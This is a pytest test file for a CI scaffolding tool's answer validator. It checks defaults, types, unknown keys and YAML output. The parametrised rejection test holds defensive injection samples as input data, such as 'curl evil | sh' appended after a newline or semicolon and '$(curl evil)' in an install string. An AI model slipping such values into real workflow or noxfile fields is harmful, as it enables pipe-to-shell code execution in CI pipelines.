"""The template answers: defaults, types, and text that may not reach a workflow or the noxfile."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from ci_sessions.errors import ConfigError
from ci_sessions.scaffold import answers
from ci_sessions.scaffold.render import render


def test_defaults_fill_every_question() -> None:
    values = answers.checked({})
    assert set(values) == set(answers.QUESTIONS)
    assert values["tier"] == "essential"
    assert values["python_versions"] == ["3.12"]
    values["python_versions"].append("3.13")  # a default list is a fresh copy each time
    assert answers.checked({})["python_versions"] == ["3.12"]


@pytest.mark.parametrize(
    ("key", "value", "problem"),
    [
        ("project_name", "demo\n  run: curl evil | sh", "characters"),
        ("os_list", ["ubuntu-latest; curl evil | sh"], "characters"),
        ("os_list", "ubuntu-latest", "not a list"),
        ("python_versions", ["3.12", 3.13], "not text"),
        ("python_versions", ["3.12\n"], "characters"),
        ("default_branch", "main,evil", "characters"),
        ("nox_requirement", 'nox", "evil', "characters"),
        ("ci_sessions_install", "ci-sessions==1 $(curl evil)", "characters"),
        ("source_packages", ["demo; import os"], "characters"),
        ("tier", "ultimate", "not one of the choices"),
        ("precommit_language", "docker", "not one of the choices"),
        ("coverage_threshold", True, "not a whole number"),
        ("coverage_threshold", "80", "not a whole number"),
        ("release", "yes", "not true or false"),
        ("monorepo", 1, "not true or false"),
    ],
)
def test_a_bad_answer_is_refused_naming_it(key: str, value: Any, problem: str) -> None:
    with pytest.raises(ConfigError, match=problem) as raised:
        answers.checked({key: value}, ".ci-sessions-answers.yml")
    assert raised.value.key == key
    assert raised.value.source == ".ci-sessions-answers.yml"
    with pytest.raises(ConfigError):  # render checks before anything is rendered
        render({key: value})


def test_good_answers_pass_as_given() -> None:
    given: dict[str, Any] = {
        "project_name": "my project",  # a folder name with a space is a fine comment
        "os_list": ["ubuntu-24.04", "windows-latest"],
        "default_branch": "release/2.x",
        "ci_sessions_install": ".",
        "nox_install": "nox[uv]==2026.10.20",
        "coverage_threshold": 0,
        "package_dirs": ["src/demo"],
    }
    assert answers.checked(given) == {**answers.checked({}), **given}


def test_an_unknown_answer_is_refused() -> None:
    with pytest.raises(ConfigError, match="not an answer") as raised:
        answers.checked({"teir": "full"})
    assert raised.value.key == "teir"


def test_answers_text_is_sorted_yaml_that_reads_back() -> None:
    values = answers.checked({"default_python": "3.11", "os_list": ["ubuntu-latest"]})
    text = answers.answers_text(values)
    assert text.startswith("# Answers of `ci-sessions init`")
    assert "default_python: '3.11'\n" in text  # a version stays text, not the number 3.11
    keys = [line.split(":")[0] for line in text.splitlines()[1:] if not line.startswith("- ")]
    assert keys == sorted(values)
    assert yaml.safe_load(text) == values


def test_the_answers_file_is_the_one_the_project_has(tmp_path: Path) -> None:
    assert answers.answers_file(tmp_path) == answers.ANSWERS_FILE
    (tmp_path / answers.LEGACY_ANSWERS_FILE).write_text("tier: full\n", encoding="utf-8")
    assert answers.answers_file(tmp_path) == answers.LEGACY_ANSWERS_FILE
    (tmp_path / answers.ANSWERS_FILE).write_text("tier: full\n", encoding="utf-8")
    assert answers.answers_file(tmp_path) == answers.ANSWERS_FILE
